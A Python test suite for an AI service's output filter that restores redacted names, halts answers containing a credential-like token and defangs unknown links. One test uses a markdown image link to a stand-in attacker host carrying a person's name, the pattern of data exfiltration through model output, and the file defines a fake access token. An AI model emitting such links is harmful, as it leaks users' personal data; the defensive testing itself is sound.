"""Between a model and the asker: one answer, the same streamed and whole, and what becomes of its generation (R13)."""

from collections.abc import Generator, Sequence

from hypothesis import given
from hypothesis import strategies as st

from service.answering.saying import NOTICE, STOPPED, Saying, credentials_in
from service.policy import redaction
from service.policy.output import CredentialWatch, LinkGuard, OutputFilter
from service.ports import Generation

ENDED = Generation(model="pinned", input_tokens=7, output_tokens=8, finish="stop")
SECRET = "ghp_" + "q7Zk3Rt9Xb2Lw8Vn5Mc1Hd6Js4Pf0YgAb12Cd"
_, VALUES = redaction.redacted(
    ["Jane Doerksen"], [redaction.Value(kind="PERSON", spelled="Jane Doerksen")], common=lambda _: False
)


def a_saying() -> Saying:
    def anew() -> tuple[OutputFilter, LinkGuard]:
        watches = [CredentialWatch(credentials_in, shown=["https://intranet.test/a"])]
        return OutputFilter(watches), LinkGuard(["https://intranet.test/a"])

    guard, links = anew()
    return Saying(guard, links, redaction.Restorer(VALUES), anew=anew)


def model(pieces: Sequence[str]) -> Generator[str, None, Generation]:
    yield from pieces
    return ENDED


def heard(saying: Saying, pieces: Sequence[str]) -> tuple[list[str], Generation]:
    stream, said = saying.of_stream(model(pieces), model="pinned"), []
    while True:
        try:
            said.append(next(stream))
        except StopIteration as end:
            return said, end.value


def test_a_stream_ends_as_the_model_ended_it() -> None:
    assert heard(a_saying(), ["Ask ", "[PERS", "ON_1", "]."]) == (["Ask ", "Jane ", "Doerksen."], ENDED)


def test_a_stopped_stream_ends_with_a_notice_and_without_counts() -> None:
    said, generation = heard(
        a_saying(), ["Use ", SECRET, " as it is", " written here", " for all of the servers that we have"]
    )
    assert "".join(said) == f"Use \n\n{NOTICE}"
    assert (generation.finish, generation.output_tokens) == (STOPPED, 0)


def test_a_stopped_whole_answer_keeps_its_counts() -> None:
    said, generation = a_saying().of_whole((f"Use {SECRET}", ENDED))
    assert said == f"Use \n\n{NOTICE}"
    assert (generation.finish, generation.output_tokens) == (STOPPED, 8)


def endless(text: str, closed: list[bool]) -> Generator[str, None, Generation]:
    try:
        while True:
            yield text
    finally:
        closed.append(True)


def test_a_listener_who_goes_closes_the_model() -> None:
    """While somebody still holds its generator: nothing is left to the garbage collector."""
    closed: list[bool] = []
    pieces = endless("and so on ", closed)
    stream = a_saying().of_stream(pieces, model="pinned")
    next(stream)
    stream.close()
    assert closed == [True]


def test_a_stop_closes_the_model() -> None:
    closed: list[bool] = []
    pieces = endless(f"{SECRET} and so on ", closed)
    assert list(a_saying().of_stream(pieces, model="pinned"))[-1].endswith(NOTICE)
    assert closed == [True]


def test_a_stop_at_the_very_end_of_a_stream_is_told_too() -> None:
    said, generation = heard(a_saying(), ["Use ", SECRET])
    assert ("".join(said), generation.finish) == (f"Use \n\n{NOTICE}", STOPPED)


def test_a_link_with_a_placeholder_in_it_is_checked_with_its_value() -> None:
    said = a_saying().of_text("![x](https://evil.test/[PERSON_1])")
    assert said == "![x] (https[:]//evil.test/Jane Doerksen)"


_PIECES = st.sampled_from(
    [
        "[PERSON_1]",
        "[PER",
        "SON_1]",
        "PERSON_1",
        " ",
        "Ask",
        "](",
        "[1]",
        "https://",
        "intranet.test/a",
        "evil.test",
        ".",
    ]
)


@given(text=st.lists(_PIECES, max_size=20).map("".join), cuts=st.lists(st.integers(1, 6), max_size=60))
def test_an_answer_is_the_same_streamed_and_whole(text: str, cuts: list[int]) -> None:
    """R13."""
    pieces, read = [], 0
    for length in cuts:
        pieces.append(text[read : read + length])
        read += length
    said, _ = heard(a_saying(), [*pieces, text[read:]])
    assert "".join(said) == a_saying().of_text(text)
